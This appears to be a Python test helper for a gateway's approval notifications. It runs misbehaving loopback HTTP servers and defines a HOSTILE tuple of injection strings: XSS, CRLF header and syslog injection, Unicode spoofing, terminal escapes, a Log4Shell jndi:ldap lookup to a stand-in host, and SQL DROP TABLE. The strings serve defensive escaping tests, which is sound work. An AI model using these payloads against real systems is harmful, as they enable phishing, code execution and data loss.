"""Real receivers on loopback: an HTTP server that answers as a test says, and syslog servers."""

import asyncio
import ssl
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

from gateway.core.notices import Notice
from gateway.core.secret import Secret

PATIENCE = 20.0
SECRET = "a secret of thirty-two bytes ...."


@dataclass
class Got:
    """One request that came."""

    path: str
    headers: dict[str, str]
    body: bytes


Answer = Callable[[asyncio.StreamWriter, Got], Awaitable[None]]


def plainly(status: int = 200, body: bytes = b"ok", **headers: str) -> Answer:
    """An ordinary answer. Underscores of `headers` are hyphens."""

    async def answer(writer: asyncio.StreamWriter, got: Got) -> None:
        lines = [f"HTTP/1.1 {status} So", f"Content-Length: {len(body)}", "Connection: close"]
        lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
        writer.write("\r\n".join([*lines, "", ""]).encode() + body)
        await writer.drain()

    return answer


async def hangs(writer: asyncio.StreamWriter, got: Got) -> None:
    """No answer, ever."""
    await asyncio.Event().wait()


async def drips(writer: asyncio.StreamWriter, got: Got) -> None:
    """One byte at a time, so that no single read takes long."""
    writer.write(b"HTTP/1.1 200 So\r\nContent-Length: 100000\r\n\r\n")
    while True:
        writer.write(b"x")
        await writer.drain()
        await asyncio.sleep(0.02)


async def floods(writer: asyncio.StreamWriter, got: Got) -> None:
    """An answer without an end."""
    writer.write(b"HTTP/1.1 200 So\r\n\r\n")
    while True:
        writer.write(b"x" * 65536)
        await writer.drain()


async def hangs_up(writer: asyncio.StreamWriter, got: Got) -> None:
    """Nothing at all."""


async def babbles(writer: asyncio.StreamWriter, got: Got) -> None:
    """Something that is not HTTP."""
    writer.write(b"220 mail ready\r\n")
    await writer.drain()


@dataclass
class Http:
    """A server that keeps what comes. `answers` are used up from the left; the last one stays."""

    answers: list[Answer] = field(default_factory=lambda: [plainly()])
    got: list[Got] = field(default_factory=list)
    port: int = 0
    scheme: str = "http"
    _news: asyncio.Event = field(default_factory=asyncio.Event)
    _open: set["asyncio.Task[None]"] = field(default_factory=set)

    @property
    def url(self) -> str:
        return f"{self.scheme}://127.0.0.1:{self.port}/services/T0000/B0000/averysecretpart"

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        self._open.add(task)
        try:
            head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").split("\r\n")
            headers = {
                name.lower(): value.strip() for name, _, value in (line.partition(":") for line in head[1:])
            }
            body = await reader.readexactly(int(headers.get("content-length", "0")))
            got = Got(head[0].split()[1], headers, body)
            answer = self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]
            self.got.append(got)
            self._news.set()
            await answer(writer, got)
        except (OSError, asyncio.IncompleteReadError, asyncio.CancelledError):
            pass
        finally:
            self._open.discard(task)
            writer.close()

    async def comes(self, count: int, patience: float = PATIENCE) -> list[Got]:
        """What came, once it is so many."""
        async with asyncio.timeout(patience):
            while len(self.got) < count:
                self._news.clear()
                await self._news.wait()
        return self.got

    def hang_up(self) -> None:
        for task in list(self._open):
            task.cancel()


@asynccontextmanager
async def http(*answers: Answer, tls: ssl.SSLContext | None = None) -> AsyncIterator[Http]:
    """A running one."""
    made = Http(list(answers) or [plainly()], scheme="https" if tls else "http")
    server = await asyncio.start_server(made.serve, "127.0.0.1", 0, ssl=tls)
    made.port = server.sockets[0].getsockname()[1]
    try:
        yield made
    finally:
        server.close()
        made.hang_up()
        await asyncio.sleep(0)
        await server.wait_closed()


def fetch(value: str) -> Callable[[], Awaitable[Secret]]:
    async def found() -> Secret:
        return Secret(value)

    return found


def notice(**more: str) -> Notice:
    """Alice's DELETE waits."""
    known = {
        "id": "7QF-2KM-opened",
        "event": "approval.opened",
        "at": "2026-06-01T12:00:00.250000+00:00",
        "gateway": "gw-test",
        "request": "7QF-2KM",
        "session": "s-2B8CK4TQ",
        "person": "alice@example.com",
        "target": "appdb",
        "kind": "postgres",
        "verb": "delete",
        "rule": "hold-deletes",
        "risk": "high",
        "state": "held",
        "expires_at": "2026-06-01T12:10:00+00:00",
    }
    return Notice(**{**known, **more})


HOSTILE = (
    "<!channel> <@U012AB3CD> <https://evil.example|Approve> *bold* _it_ `code` ~s~",
    "[Approve](https://evil.example) <at>everyone</at> <img src=x onerror=alert(1)> &lt;b&gt;",
    "a\r\nBcc: everybody@example.com\r\n\r\nbody",
    'x"] [evil@1 a="b"] <13>1 - - - - - -\nanother line\x00',
    "\u202egnp.exe \u200b\u2066hidden\u2069 \ufeff \u0430pprove",
    "\x1b[2J\x1b]0;title\x07\x9b31m",
    "\ud800\udfff half",
    "{{7*7}} ${jndi:ldap://evil} %s %n @here @channel @everyone",
    "'; DROP TABLE outbox; --",
    "x" * 100_000,
    "\u2028\u2029\x85\x0b\x0c",
)
"""What others may write."""
FIELDS = (
    "request",
    "session",
    "person",
    "target",
    "kind",
    "verb",
    "rule",
    "risk",
    "state",
    "by",
    "expires_at",
)
FREE = ("statement", "reason", "word")
